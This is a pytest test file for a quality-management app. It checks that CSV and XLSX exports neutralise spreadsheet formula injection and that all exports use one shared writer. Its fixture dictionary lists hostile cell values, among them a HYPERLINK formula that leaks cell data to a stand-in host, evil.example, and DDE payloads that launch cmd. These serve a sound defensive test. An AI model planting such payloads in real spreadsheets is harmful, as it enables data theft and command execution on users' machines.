"""Exports never carry a live formula (OWASP "CSV injection"): a cell a user typed that
starts with = + - @ tab or carriage return goes out as text behind a single quote, in CSV and
in XLSX (a string cell, never a formula); numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from nonconformities.factories import EventFactory
from qse.exports import neutralise
from qse.roles import Role

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+33 6 12 34 56 78": "'+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("typed", "written"), [
    *HOSTILE.items(),
    ("Bavure = défaut", "Bavure = défaut"),
    ("", ""),
    (-12, -12),
    (Decimal("-4.50"), Decimal("-4.50")),
    (3.5, 3.5),
    (None, None),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(typed, written):
    assert neutralise(typed) == written


@pytest.fixture
def hostile_events(world):
    events = [
        EventFactory(organization=world.a.organization, site=world.a.site, title=title, reference=f"EV-X-{i}")
        for i, title in enumerate(HOSTILE)
    ]
    EventFactory(organization=world.a.organization, title="Perte", reference="EV-X-NEG", cost_other=Decimal("-5"))
    return events


def _export(client, world, export_format: str):
    client.force_login(world.a.users[Role.COORDINATOR])
    response = client.get("/events/events/", {"_export": export_format})
    assert response.status_code == 200
    return response.content


def test_the_csv_export_writes_formulas_as_quoted_text(client, world, hostile_events):
    text = _export(client, world, "csv").decode("utf-8")
    titles = {row[1] for row in csv.reader(io.StringIO(text))}
    for written in HOSTILE.values():
        assert written in titles
    assert not {t for t in titles if t[:1] in "=+-@\t\r"}


def test_the_xlsx_export_has_no_formula_and_keeps_negative_numbers(client, world, hostile_events):
    book = openpyxl.load_workbook(io.BytesIO(_export(client, world, "xlsx")))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = {c.value for c in cells if c.column == 2}
    for written in HOSTILE.values():
        assert written.replace("\r", "\n") in titles  # XML text reads a carriage return back as a new line
    negative = [c for c in cells if c.value == -5]
    assert negative and negative[0].data_type == "n"


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter|TableExport\(|\.export\(")


def test_every_spreadsheet_the_product_writes_goes_through_the_shared_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or "/migrations/" in relative:
            continue
        if relative in {"qse/exports.py", "qse/testing.py"}:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
